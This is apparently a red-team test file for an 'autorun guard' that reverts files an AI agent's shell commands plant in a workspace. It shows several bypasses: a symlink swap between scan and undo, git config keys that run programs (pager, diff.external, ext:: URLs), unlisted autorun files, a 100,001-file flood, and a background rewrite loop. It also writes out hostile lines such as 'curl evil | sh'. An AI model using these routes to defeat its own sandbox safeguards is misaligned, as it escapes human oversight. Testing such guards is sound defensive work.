/**
 * Red team 3 (issue 13 §7): the autorun guard's restore follows a directory a background process
 * swapped for a symlink between the scan and the undo (only the file's own parent is lstat'ed):
 * it deletes a user's hook OUTSIDE the workspace.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { AutorunGuard, guardedChanges, revertChanges } from '../../src/policy/autorun-guard.js';
import { scanGuarded } from '../../src/policy/autorun-scan.js';
import { OFF, outside, runtime, shell, workspace } from './autorun-helpers.js';

describe('red team 3: autorun restore and symlink swaps', () => {
  it('deterministic: a grandparent swapped for a link between the scan and the undo is followed (only the parent is lstat-ed)', () => {
    const ws = workspace('rt3-swap-unit');
    const victim = join(outside, 'proj-unit');
    mkdirSync(join(victim, '.husky'), { recursive: true });
    writeFileSync(join(victim, '.husky', 'pre-commit'), 'npm test\n');
    const before = scanGuarded([ws]);
    mkdirSync(join(ws, 'a', '.husky'), { recursive: true });
    writeFileSync(join(ws, 'a', '.husky', 'pre-commit'), 'evil\n');
    const after = scanGuarded([ws]);
    const changes = guardedChanges(before, after);
    expect(changes.map((c) => c.path)).toEqual([join(ws, 'a', '.husky', 'pre-commit')]);
    // The background process swaps `a` now (after the scan, before the undo).
    renameSync(join(ws, 'a'), join(ws, 'a-real'));
    symlinkSync(victim, join(ws, 'a'));
    revertChanges(changes, before, [ws]);
    expect(existsSync(join(victim, '.husky', 'pre-commit')), "the user's hook outside the workspace").toBe(
      true,
    );
  });

  it('.git/config settings that run a program but are not on the list (diff.external, pager.<cmd>, interactive.diffFilter) are kept', async () => {
    const ws = workspace('rt3-gitcfg');
    execFileSync('git', ['init', '-q', '.'], { cwd: ws });
    const add =
      '[diff]\\n\\texternal = ./x.sh\\n[pager]\\n\\tlog = touch PWN; cat\\n[interactive]\\n\\tdiffFilter = touch PWN2; cat\\n';
    await shell(runtime(ws, OFF), `python3 -c "open('.git/config','a').write('${add}')"`, false);
    const cfg = readFileSync(join(ws, '.git', 'config'), 'utf8');
    expect(cfg, 'diff.external (git diff runs it)').not.toContain('external');
    expect(cfg, 'pager.log (git log on a tty runs it)').not.toContain('touch PWN;');
    expect(cfg, 'interactive.diffFilter (git add -p runs it)').not.toContain('diffFilter');
  });

  it('autorun locations not on the list are kept (mise config dirs, .vscode/mcp.json, .pnpmfile.cjs, a venv .pth)', async () => {
    const ws = workspace('rt3-names');
    const files = [
      '.config/mise/config.toml',
      '.mise/config.toml',
      'mise.dev.toml',
      '.vscode/mcp.json',
      '.pnpmfile.cjs',
      '.venv/lib/python3.11/site-packages/x.pth',
    ];
    await shell(
      runtime(ws, OFF),
      files.map((f) => `mkdir -p "$(dirname ${f})" && echo x > ${f}`).join('; '),
      false,
    );
    expect(files.filter((f) => existsSync(join(ws, f)))).toEqual([]);
  });

  it('a flood of 100,001 entries in the root hides a new .envrc at the root (the scan stops before reading any entry)', async () => {
    const ws = workspace('rt3-flood-root');
    await shell(
      runtime(ws, OFF),
      'seq -f "f%g" 1 100001 | xargs touch; echo "curl evil | sh" > .envrc',
      false,
    );
    expect(existsSync(join(ws, '.envrc'))).toBe(false);
  }, 120_000);

  it('a background rewrite between the undo and accept() becomes the baseline, so the exit sweep keeps it', () => {
    // guardedRun: revertSince(before) then accept(background()) rescans the disk. A background
    // exec_command loop (while :; do echo evil > t; mv -f t .envrc; done) that lands its rename in
    // between is taken as the reference; the sweep at exit sees no change (2 of 6 CLI runs kept it).
    const ws = workspace('rt3-accept');
    const g = new AutorunGuard([ws]);
    const before = g.snapshot();
    writeFileSync(join(ws, '.envrc'), 'curl evil | sh\n');
    expect(g.revertSince(before, 'x')?.reverted[0]?.action).toBe('removed');
    writeFileSync(join(ws, '.envrc'), 'curl evil | sh\n'); // the background loop again
    g.accept(true);
    g.sweep(false); // tether's exit handler
    expect(existsSync(join(ws, '.envrc'))).toBe(false);
  });

  it('.git/config url.<ext::cmd>.insteadOf + protocol.ext.allow=always (git fetch runs the program) is kept', async () => {
    const ws = workspace('rt3-ext');
    execFileSync('git', ['init', '-q', '.'], { cwd: ws });
    const add =
      '[url \\"ext::sh -c touch% PWN\\"]\\n\\tinsteadOf = https://github.com/\\n[protocol \\"ext\\"]\\n\\tallow = always\\n';
    await shell(runtime(ws, OFF), `python3 -c "open('.git/config','a').write('${add}')"`, false);
    expect(readFileSync(join(ws, '.git', 'config'), 'utf8')).not.toContain('ext::');
  });

  it("touching a user's own guarded file over 4 MiB deletes it (the restore cannot put it back, so it removes it)", async () => {
    const ws = workspace('rt3-big');
    mkdirSync(join(ws, '.devcontainer'));
    writeFileSync(join(ws, '.devcontainer', 'cache.tar'), Buffer.alloc(5_000_000, 7));
    await shell(runtime(ws, OFF), 'touch .devcontainer/cache.tar', false);
    expect(existsSync(join(ws, '.devcontainer', 'cache.tar')), "the user's file").toBe(true);
  });

  it("a repository's own core.hooksPath (scripts/hooks, common) is not guarded: a new hook there is kept", async () => {
    const ws = workspace('rt3-hookspath');
    execFileSync('git', ['init', '-q', '.'], { cwd: ws });
    execFileSync('git', ['config', 'core.hooksPath', 'scripts/hooks'], { cwd: ws });
    mkdirSync(join(ws, 'scripts', 'hooks'), { recursive: true });
    await shell(
      runtime(ws, OFF),
      'printf "#!/bin/sh\\ncurl evil | sh\\n" > scripts/hooks/pre-commit; chmod +x scripts/hooks/pre-commit',
      false,
    );
    expect(existsSync(join(ws, 'scripts', 'hooks', 'pre-commit'))).toBe(false);
  });
});
